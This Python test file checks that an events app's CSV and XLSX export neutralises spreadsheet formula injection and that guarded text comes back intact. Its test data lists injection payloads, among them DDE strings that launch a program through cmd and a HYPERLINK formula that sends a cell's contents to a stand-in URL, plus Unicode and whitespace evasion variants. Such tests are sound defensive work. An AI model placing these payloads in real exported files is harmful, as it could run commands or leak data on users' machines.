"""What stands in a cell comes back as it was typed, and no spreadsheet takes it for a formula."""

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from eventsapp.spreadsheets import MOST_CHARACTERS, XlsxWriter, csv_bytes, guarded, unguarded

FORMULAS = (
    "=1+1",
    "@SUM(1)",
    "|calc",
    "%0A=1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1*HYPERLINK(1)",
    "--5",
    "  =1",
    "\t=1",
    "\rtext",
    "\n=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\u2066=1",
    "\u00a0=1",
    "\uff1d1+1",  # full-width
    "\uff0bA1",
    "\uff20A1",
    '"=1',
    "'=1",
    "''=1",
    '=HYPERLINK("https://example.org?"&A1)',
    "=",
    "-",
)
HARMLESS = (
    "",
    "Ana",
    "+41785324567",
    "+41 78 532 45 67",
    "-5",
    "-1,5",
    "O'Brien",
    "'quoted'",
    "a=b",
    "1+1",
    "12 June",
    "007",
    "2026-06-12",
    "a;b,c\t\"d\"\r\ne",
    "亜 عربي",
    "https://example.org",
    "_x0041_",  # as XLSX files write characters that XML has not
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded_and_comes_back(text):
    assert (guarded(text), unguarded(guarded(text))) == (f"'{text}", text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_computes_nothing_stays_as_it_is(text):
    assert (guarded(text), unguarded(text)) == (text, text)


def test_csv_comes_back_by_any_reader():
    texts = [*FORMULAS, *HARMLESS]
    data = csv_bytes([["Text", "Number", "At", "Day"], *([text, 5, None, date(2026, 6, 12)] for text in texts)])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    assert [[unguarded(row[0]), *row[1:]] for row in rows[1:]] == [[text, "5", "", "2026-06-12"] for text in texts]


def test_a_spreadsheet_holds_texts_numbers_and_dates():
    texts = [text for text in (*FORMULAS, *HARMLESS) if text]
    at, day = datetime(2026, 6, 12, 14, 3), date(2026, 6, 12)  # noqa: DTZ001  a wall time, as spreadsheets have them
    file = io.BytesIO()
    writer = XlsxWriter(file, right_to_left=True)
    writer.row(["=Text", "Number", "At", "Day"])
    for text in [*texts, "x" * (MOST_CHARACTERS + 1)]:
        writer.row([text, -5, at, day])
    writer.close()
    sheet = openpyxl.load_workbook(file).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [(unescape(row[0].value), row[0].data_type) for row in rows[:-1]] == [(text, "s") for text in texts]
    assert len(rows[-1][0].value) == MOST_CHARACTERS
    assert {tuple(cell.value for cell in row[1:]) for row in rows} == {(-5, at, datetime(2026, 6, 12))}  # noqa: DTZ001
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet.sheet_view.rightToLeft) == ("=Text", "s", True)
